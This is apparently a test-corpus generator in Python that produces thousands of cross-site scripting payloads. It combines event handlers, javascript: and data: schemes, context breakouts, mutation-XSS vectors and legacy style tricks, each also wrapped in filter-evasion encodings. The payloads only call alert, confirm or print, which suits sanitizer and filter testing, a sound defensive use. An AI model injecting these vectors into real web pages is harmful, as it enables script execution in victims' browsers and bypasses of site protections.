"""Markup that wants to run in somebody's browser: vectors times disguises, made here, always the same ones.

Each payload calls `alert(7)`, `confirm(7)` or `print(7)` when it gets its way. They are the known families: handlers on
every element, script addresses in every attribute that takes one, ways out of raw text, foreign elements, markup that
changes when it is parsed twice, styles, frames, forms, refreshes; each also in the disguises that filters fall for.
"""

# ruff: noqa: E501 - payloads are one line each

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from itertools import product

CALLS = ("alert(7)", "print(7)", "confirm(7)", "window['al'+'ert'](7)", "top.alert(7)", "alert`7`")

_HANDLERS = """
onload onerror onclick ondblclick onmousedown onmouseup onmouseover onmousemove onmouseout onmouseenter onfocus
onfocusin onblur onkeydown onkeypress onkeyup onsubmit onreset onselect onchange oninput oninvalid onscroll onresize
ontoggle onpageshow onpagehide onhashchange onbeforeunload onmessage onanimationstart onanimationend
onanimationiteration ontransitionend ontransitionrun onwheel oncopy oncut onpaste ondrag ondragstart ondrop
oncontextmenu onpointerdown onpointerover onpointerenter onbegin onend onrepeat onplay oncanplay onloadstart
onloadeddata onloadedmetadata onseeking onwaiting oncuechange onshow onsearch onafterprint onbeforeprint
onbeforematch onscrollend oncontentvisibilityautostatechange onsecuritypolicyviolation onslotchange
"""
HANDLERS = tuple(_HANDLERS.split())

ELEMENTS = """
<img src=x {0}={1}>|<svg {0}={1}>|<body {0}={1}>|<video src=x {0}={1}></video>|<audio src=x {0}={1}>|
<input autofocus {0}={1}>|<details open {0}={1}>x</details>|<iframe src=x {0}={1}></iframe>|
<object data=x {0}={1}></object>|<embed src=x {0}={1}>|<a href=# tabindex=1 autofocus {0}={1}>x</a>|
<div tabindex=1 autofocus contenteditable {0}={1}>x</div>|<select autofocus {0}={1}><option>x</select>|
<textarea autofocus {0}={1}></textarea>|<marquee {0}={1}>x</marquee>|<math {0}={1}>|<form {0}={1}><button>x</form>|
<svg><animate attributeName=x dur=1ms {0}={1}>|<svg><image href=x {0}={1}>|<style {0}={1}>@keyframes x{{}}</style>|
<p style="animation:x 1ms" {0}={1}>x</p>|<x {0}={1} tabindex=1 autofocus>x</x>|<time {0}={1} autofocus tabindex=1>|
<q cite=x {0}={1}>x</q>|<td {0}={1}>x|<picture><source srcset=x><img src=x {0}={1}></picture>|<link rel=stylesheet href=x {0}={1}>
"""

SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "java\rscript:{0}",
    " javascript:{0}",
    "\x01javascript:{0}",
    "\x00javascript:{0}",
    "java\x00script:{0}",
    "javascript\t:{0}",
    "javascript&colon;{0}",
    "javascript&#58;{0}",
    "javascript&#x3A;{0}",
    "&#106;avascript:{0}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{0}",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{0}",
    "jav&#x09;ascript:{0}",
    "jav&#x0A;ascript:{0}",
    "jav&Tab;ascript:{0}",
    "jav&NewLine;ascript:{0}",
    "java&#8203;script:{0}",
    "\u00a0javascript:{0}",
    "\u2028javascript:{0}",
    "\ufeffjavascript:{0}",
    "javascript://example.org/%0a{0}",
    "javascript://%0d%0a{0}//http://example.org/",
    "javascript:/*http://example.org/*/{0}",
    "http://example.org/\njavascript:{0}",
    "//javascript:{0}",
    "vbscript:{0}",
    "livescript:{0}",
    "view-source:javascript:{0}",
    "feed:javascript:{0}",
    "jar:javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{0}</script>",
    "DATA:TEXT/HTML,<svg onload={0}>",
    "blob:javascript:{0}",
    "ｊａｖａｓｃｒｉｐｔ:{0}",
    "javaſcript:{0}",
    "%6A%61%76%61%73%63%72%69%70%74:{0}",
    "\\x6Aavascript:{0}",
)

LINKED = """
<a href="{0}">x</a>|<a href='{0}'>x</a>|<a href={0}>x</a>|<a href=`{0}`>x</a>|<img src="{0}">|<img srcset="{0} 1x">|<iframe src="{0}"></iframe>|
<form action="{0}"><input type=submit autofocus>|<button formaction="{0}" form=x>x</button>|<object data="{0}"></object>|
<embed src="{0}">|<base href="{0}//"><a href=x>x</a>|<link rel=stylesheet href="{0}">|<link rel=import href="{0}">|<body background="{0}">|
<svg><a xlink:href="{0}"><text y=9>x</text></a>|<svg><a href="{0}"><text y=9>x</text></a>|<svg><use href="{0}#x">|
<svg><script href="{0}"></script>|<math><a xlink:href="{0}">x</a>|<math href="{0}">x</math>|<script src="{0}"></script>|
<meta http-equiv=refresh content="0;url={0}">|<meta http-equiv="refresh" content="0;{0}">|<video poster="{0}">|
<video><source src="{0}"></video>|<blockquote cite="{0}">x</blockquote>|<q cite="{0}">x</q>|<ins cite="{0}">x</ins>|<table background="{0}"><td>x</table>|
<p style="background:url({0})">x</p>|<style>@import '{0}';</style>|<style>p{{background:url("{0}")}}</style><p>x|<area href="{0}">|
<map name=m><area shape=default href="{0}"></map><img usemap=#m src=x>|<svg><animate attributeName=href values="{0}"/><a id=x><text>x</text></a>|
<svg><a><set attributeName=href to="{0}"/><text y=9>x</text></a>|<a target=_top href="{0}" autofocus>x</a>|[x]({0})|![x]({0})|{0}
"""

BREAKOUTS = (
    '">{0}',
    "'>{0}",
    '"/>{0}',
    "`>{0}",
    '" {0}',
    "</title>{0}",
    "</style>{0}",
    "</script>{0}",
    "</textarea>{0}",
    "</noscript>{0}",
    "</template>{0}",
    "</iframe>{0}",
    "</xmp>{0}",
    "</plaintext>{0}",
    "</svg>{0}",
    "</math>{0}",
    "</a>{0}",
    "</p></div></td></tr></table></body></html>{0}",
    "-->{0}",
    "--!>{0}",
    "]]>{0}",
    "<![CDATA[{0}]]>",
    "<!--{0}-->",
    "<!-->{0}",
    "<!--->{0}",
    "<!--[if gte IE 4]>{0}<![endif]-->",
    "<?xml version='1.0'?>{0}",
    "<!DOCTYPE x [<!ENTITY y '{0}'>]>&y;",
    "*/{0}/*",
    "\u2028{0}",
    "{{{{ {0} }}}}",
    "{{% raw %}}{0}{{% endraw %}}",
    "${{{0}}}",
    "%3Cscript%3E{0}",
    "<{0}",
    "<<{0}",
    "<x {0}",
)

MUTATIONS = (
    '<noscript><p title="</noscript>{0}">',
    "<noscript><style></noscript>{0}",
    "<svg><style><!--</style>{0}-->",
    '<svg></p><style><a id="</style>{0}">',
    "<math></p><style><!--</style>{0}--></style></math>",
    "<math><mtext><table><mglyph><style><!--</style>{0}",
    "<math><mtext><table><mglyph><style><![CDATA[</style>{0}]]>",
    "<math><mtext><mglyph><style><math>{0}</style>",
    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea>{0}">',
    "<form><math><mtext></form><form><mglyph><style></math>{0}",
    '<math><annotation-xml encoding="text/html"><style>{0}</style></annotation-xml></math>',
    '<math><annotation-xml encoding="application/xhtml+xml">{0}</annotation-xml></math>',
    "<math><mtext></mtext><malignmark><style>{0}</style>",
    "<svg><desc><noscript>{0}</noscript></desc></svg>",
    "<svg><title><style><![CDATA[</title>{0}]]></style>",
    "<svg><foreignObject>{0}</foreignObject></svg>",
    "<svg><foreignObject><math><mi><style>{0}</style></mi></math></foreignObject></svg>",
    '<svg><p><style><g title="</style>{0}">',
    '<svg><a><foreignObject><p title="</foreignObject>{0}">',
    "<svg><script>alert(7)<p>{0}</script>",
    "<svg><script>alert&lpar;7&rpar;</script>{0}",
    "<template><style></template>{0}",
    "<template>{0}</template>",
    "<template shadowrootmode=open>{0}</template>",
    '<xmp><p title="</xmp>{0}">',
    '<textarea><p title="</textarea>{0}">',
    '<title><p title="</title>{0}">',
    '<iframe><p title="</iframe>{0}"></iframe>',
    '<noembed><p title="</noembed>{0}">',
    '<noframes><p title="</noframes>{0}">',
    "<plaintext>{0}",
    "<listing>&lt;img onerror=alert(7) src=x&gt;{0}</listing>",
    "<pre>\n\n{0}</pre>",
    "<select><style></select>{0}</style>",
    "<select><iframe></select>{0}",
    "<select><option><style></option></select>{0}</style>",
    "<table><style></table>{0}</style>",
    "<table><caption><svg><title></caption>{0}",
    '<p><svg><p title="{0}"></svg>',
    '<a href="&#34;>{0}">x</a>',
    '<img alt="``onerror=alert(7)" src=x>{0}',
    '<img alt="<x" title="/>{0}">',
    '<img src="x` `{0}"` `>',
    '<img title="--><style></style>{0}">',
    "<b <script>alert(7)</script>{0}",
    "<scr<script>ipt>alert(7)</scr</script>ipt>{0}",
    "<a title='<a title=\">{0}\">'>x</a>",
    '<div id="--></style></title></textarea></noscript>{0}">',
    "<li><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(7)</x:script>{0}",
    "<html:script>alert(7)</html:script>{0}",
    "<image/src/onerror=alert(7)>{0}",
    "<isindex type=image src=x onerror=alert(7)>{0}",
    "<keygen autofocus onfocus=alert(7)>{0}",
    '<math><mglyph><svg><mtext><style><path id="</style>{0}">',
    "<svg><font color><p>{0}",
    '<d:table/><p title="</d:table>{0}">',
    "<option><style></option></select><b></style>{0}",
    "<ruby><rt><style></rt>{0}</style>",
    "<dialog open><style></dialog>{0}</style>",
    '<object><param name=x value="</object>{0}"></object>',
)

INNER = (
    "<img src=x onerror={0}>",
    "<script>{0}</script>",
    "<svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    "<details open ontoggle={0}>",
    "<a href=javascript:{0}>x</a>",
    "<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart={0}>x",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
)

STYLES = (
    "<style>*{{x:expression({0})}}</style>",
    '<p style="x:expression({0})">x</p>',
    '<p style="width:e/**/xpression({0})">x</p>',
    '<p style="-moz-binding:url(//x.example/x#y)">{0}</p>',
    '<p style="behavior:url(x.htc)">{0}</p>',
    "<p style='background:url(\"javascript:{0}\")'>x</p>",
    "<style>@import'javascript:{0}';</style>",
    '<link rel=stylesheet href="data:text/css,*%7bx:expression({0})%7d">',
    '<p style="position:fixed;inset:0;z-index:9999" onmouseover={0}>x</p>',
    '<style><img src="</style><img src=x onerror={0}//">',
    "<style>x{{content:'</style><svg onload={0}>'}}</style>",
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:{0}></object>",
    '<iframe srcdoc="&lt;svg onload={0}&gt;"></iframe>',
    '<iframe srcdoc="&lt;img src=1 href=1 onerror=&quot;parent.{0}&quot;&gt;"></iframe>',
    '<portal src="javascript:{0}"></portal>',
    '<frameset onload={0}><frame src="javascript:{0}"></frameset>',
    "<applet code=x onerror={0}></applet>",
    "<script type=module>{0}</script>",
    "<script>/*</script><svg onload={0}>//*/",
    "<script\x00>{0}</script>",
    "<script/xss src=data:,{0}></script>",
    "<script x>{0}</script x>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script>{0}",
    "<script>{0}//",
    "<svg/onload={0}>",
    "<svg\x0conload={0}>",
    "<svg\x0bonload={0}>",
    "<svg\nonload\n=\n{0}>",
    "<img\x00src=x onerror={0}>",
    "<img/src=x/onerror={0}>",
    "<img src=x:x onerror\x00={0}>",
    "<img src=x onerror\r=\r{0}>",
    '<img src=x onerror="{0}"',
    "<img src=x onerror={0} <p",
    "<iMg SrC=x OnErRoR={0}>",
    "<img src=x oneonerrorrror={0}>",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "＜script＞{0}＜/script＞",
    "\udc80<script>{0}</script>\ud800",
    '<a href="//x.example" onclick={0} onfocus={0} autofocus>x</a>',
    "<form action=javascript:{0}><input type=submit id=x></form><label for=x>x</label>",
    "<form id=x></form><button form=x formaction=javascript:{0}>x</button>",
    "<input type=image src=x formaction=javascript:{0} onerror={0}>",
    "<isindex action=javascript:{0} type=image>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{0}</script>",
    "<meta charset=utf-7>+ADw-svg onload={0}+AD4-",
    "<base target=_blank href=javascript:{0}//><a href=x>x</a>",
)


def _quoted(call: str) -> tuple[str, ...]:
    return (call, f'"{call}"', f"'{call}'")


def _families() -> Iterator[str]:
    elements = [one.strip() for one in ELEMENTS.replace("\n", "").split("|")]
    for number, (element, handler) in enumerate(product(elements, HANDLERS)):
        yield element.format(handler, _quoted(CALLS[number % 3])[number % 3])
    linked = [one.strip() for one in LINKED.replace("\n", "").split("|")]
    for number, (place, scheme) in enumerate(product(linked, SCHEMES)):
        yield place.format(scheme.format(CALLS[number % 3]))
    for number, (breakout, inner) in enumerate(product(BREAKOUTS, INNER)):
        yield breakout.format(inner.format(CALLS[number % len(CALLS)]))
    for number, (mutation, inner) in enumerate(product(MUTATIONS, INNER)):
        yield mutation.format(inner.format(CALLS[number % 3]))
    for style, call in product(STYLES, CALLS):
        yield style.format(call)


def _disguised(payload: str) -> Iterator[str]:
    """As a filter might be told it: once more escaped, by numbers, in other letters, with things in between."""
    yield payload
    yield payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    yield "".join(f"&#{ord(sign)};" if sign in "<>\"'" else sign for sign in payload)
    yield "".join(f"&#x{ord(sign):x}" if sign in "<>" else sign for sign in payload)
    yield payload.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield payload.replace("<", "<\x00").replace("=", "\t=\n")
    yield payload.replace("<", "\\u003c").replace(">", "\\x3e")
    yield payload.swapcase().replace("ALERT", "alert").replace("PRINT", "print").replace("CONFIRM", "confirm")


def payloads(count: int) -> list[str]:
    """So many different ones: every family and disguise in its share, in an order that never changes."""
    plain = dict.fromkeys(_families())
    every = {
        disguised: None
        for number, one in enumerate(plain)
        for disguised in (one, [*_disguised(one)][number % 8])
    }
    found = sorted(every, key=lambda one: hashlib.sha256(one.encode("utf-8", "surrogatepass")).digest())
    assert len(found) >= count, len(found)
    return found[:count]
